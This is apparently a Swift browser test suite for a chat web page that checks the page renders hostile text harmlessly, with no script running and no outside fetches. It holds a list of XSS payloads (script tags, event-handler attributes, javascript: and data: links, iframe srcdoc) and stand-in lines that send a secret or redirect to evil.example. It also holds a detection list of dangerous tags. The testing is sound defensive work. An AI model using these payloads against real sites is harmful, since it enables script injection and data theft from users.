import Foundation
import ProcessTesting
import Testing

@Suite(
    "Hostile text in the chat page, in a real browser", .serialized,
    .enabled(if: Programs.areExpected, "set GATEHOUSE_BIN to the folder with the built programs"),
    .timeLimit(.minutes(4)))
struct HostileTextTests {
    @Test(
        "as question, answer, program, title, instructions, search, imported file and file name: nothing runs, nothing is fetched, no report"
    )
    func nothingExecutes() async throws {
        let host = try await Installation.start(changing: [
            ("chat.yaml", "QuestionsPerMinute: 20", "QuestionsPerMinute: 6000")
        ])
        do {
            let browser = try await Chromium.start(trusting: host.ready.caFile)
            let window = browser.window
            do {
                try await window.go(to: host.app + "/")
                try await window.type(host.user, into: window.element("#signInFormUsername"))
                try await window.type(host.password, into: window.element("#signInFormPassword"))
                try await window.click(window.element("[name=signInSubmitButton]"))
                _ = try await window.element(".empty")
                try await show(window, host)
            } catch {
                Issue.record("\(error)\nconsole: \((try? await window.console()) ?? [])")
                try? await window.keepPicture("failure")
            }
            try await browser.stop()
        } catch {
            Issue.record("\(error)\n\(host.logs)")
        }
        #expect(try await host.stop() == 0)
    }

    private func show(_ window: WebDriver, _ host: Installation) async throws {
        for (place, text) in Self.corpus.enumerated() {
            // In by the door the page uses: a file with the text as title, instructions, question and answer.
            let document = try JSONEncoder().encode(
                Document(conversations: [.init(title: Self.line(text), instructions: text, text: text)]))
            let file = host.folder.file("\(place).json")
            try document.write(to: URL(fileURLWithPath: file))
            try await window.type(file, into: window.element("#import"))
            _ = try await eventually("text \(place) imported") {
                try await window.holds("document.querySelectorAll('.answer').length === 1") ? true : nil
            }
            try await expectHarmless(window, "imported: \(text)")
            // And streamed, as an answer.
            try await set("/echo " + text, window)
            try await window.click(window.element("#send:not([disabled])"))
            _ = try await eventually("text \(place) streamed", within: .seconds(30)) {
                try await window.holds(
                    "document.querySelectorAll('.answer').length === 2 && document.querySelector('#stop').hidden")
                    ? true : nil
            }
            try await expectHarmless(window, "streamed: \(text)")
            try await window.go(to: host.app + "/")
            _ = try await window.element(".empty")
        }
        try await attach(window, host)
        // All titles together in the list, then all that is found.
        try await expectHarmless(window, "in the list")
        try await set("owned", window, in: "#search")
        _ = try await window.element(".result")
        try await expectHarmless(window, "found")
        let severe = try await window.console().filter {
            $0.level == "SEVERE" || $0.message.contains("Content Security")
        }
        #expect(severe.isEmpty, "\(severe)")
    }

    /// The texts as names of files: chosen, sent, and come back to.
    private func attach(_ window: WebDriver, _ host: Installation) async throws {
        // A name on this disk has no slash.
        let names = Self.corpus.map { String(Self.line($0).replacing("/", with: "\u{2215}").prefix(60)) + ".txt" }
        for name in names {
            let file = host.folder.file(name)
            try Data("owned".utf8).write(to: URL(fileURLWithPath: file))
            try await window.type(file, into: window.element("input[aria-label='Files to attach']"))
        }
        _ = try await eventually("the files' names") {
            try await window.holds("document.querySelectorAll('#files li').length === \(names.count)") ? true : nil
        }
        try await expectHarmless(window, "chosen files")
        // A message takes five documents.
        for _ in 5..<names.count { try await window.click(window.element("#files li button")) }
        try await set("What is in these?", window)
        try await window.click(window.element("#send:not([disabled])"))
        _ = try await window.element(".answer .message-foot *", within: .seconds(30))
        #expect(try await window.holds("document.querySelector('.question').textContent.includes('.txt')"))
        try await expectHarmless(window, "sent files")
        try await window.go(to: window.url)
        _ = try await window.element(".answer .message-foot *")
        try await expectHarmless(window, "stored files")
    }

    private func set(_ text: String, _ window: WebDriver, in selector: String = "#message") async throws {
        let json = String(decoding: try JSONEncoder().encode(text), as: UTF8.self)
        _ = try await window.text(
            of: """
                const box = document.querySelector("\(selector)");
                box.value = \(json);
                box.dispatchEvent(new Event("input"));
                return "";
                """)
    }

    private func expectHarmless(_ window: WebDriver, _ what: String) async throws {
        let found = try await window.text(
            of: """
                const strange = [];
                for (const node of document.querySelectorAll("#log *, #conversations *, #title, #files *, .toast *, #banner *")) {
                    if (["SCRIPT", "IFRAME", "IMG", "OBJECT", "EMBED", "STYLE", "LINK", "META", "BASE", "VIDEO", "AUDIO"].includes(node.nodeName)
                        || node.shadowRoot) strange.push(node.nodeName);
                    for (const { name } of node.attributes) if (name.startsWith("on") || name === "srcdoc" || name === "style") strange.push(name);
                    if (node.nodeName === "A" && !["http:", "https:", "mailto:"].includes(node.protocol)) strange.push(node.href);
                }
                const foreign = performance.getEntriesByType("resource").map(({ name }) => name)
                    .filter((name) => !name.startsWith(`${location.origin}/api/`) && !name.startsWith(`${location.origin}/assets/`));
                return JSON.stringify({ owned: "owned" in window, title: document.title.startsWith("owned"), strange, foreign });
                """)
        #expect(found == #"{"owned":false,"title":false,"strange":[],"foreign":[]}"#, "\(what)")
    }

    private static func line(_ text: String) -> String {
        String(text.split(whereSeparator: \.isNewline).joined(separator: " ").prefix(110))
    }

    private struct Document: Encodable {
        let format = "gatehouse-chat/1"
        let conversations: [Conversation]

        struct Conversation: Encodable {
            let title: String
            let instructions: String
            let messages: [Message]

            init(title: String, instructions: String, text: String) {
                self.title = title
                self.instructions = instructions
                messages = [Message(role: "user", content: text), Message(role: "assistant", content: text)]
            }
        }

        struct Message: Encodable {
            let role: String
            let content: String
        }
    }

    /// One of each family; the renderer's own tests have many more.
    private static let corpus = [
        "<script>window.owned = true</script>", "<img src=/x onerror=\"window.owned=true\">",
        "<svg/onload=window.owned=true>", "<iframe srcdoc=\"<script>parent.owned=true</script>\"></iframe>",
        "\"><details open ontoggle=window.owned=true>owned</details>", "<style>@import '/stolen.css'</style> owned",
        "<base href=//evil.example/><meta http-equiv=refresh content='0;url=/stolen'> owned",
        "[owned](javascript:window.owned=true) [b](java&#10;script:window.owned=true) <javascript:window.owned=true>",
        "[owned](data:text/html,<script>parent.owned=true</script>) ![owned](https://evil.example/?q=secret) ![](/stolen.png)",
        "```html\n</code></pre><script>window.owned=true</script>\n```\n`</code><img src=x onerror=window.owned=true>`",
        "| <img src=/x onerror=window.owned=true> | b |\n|--|--|\n| <script>window.owned=true</script> | [x](javascript:owned) |",
        "$<img src=x onerror=window.owned=true>$ \\(<script>window.owned=true</script>\\)\n\n$$\n<svg onload=window.owned=true>\n$$",
        "{{constructor.constructor('window.owned=true')()}} ${window.owned=true} owned",
        "```js\n// </span><img src=x onerror=window.owned=true>\n\"<script>window.owned=true</script>\" `${owned}`\n```",
        "```diff\n+ <svg onload=window.owned=true>\n```\n```constructor\n<script>window.owned=true</script>\n```",
        "```xml\n<a onclick=\"window.owned=true\"><!-- --!><script>window.owned=true</script> owned\n```",
        "</textarea></title><script>window.owned=true</script> '-window.owned=true-' \\u003cscript\\u003e owned",
    ]
}
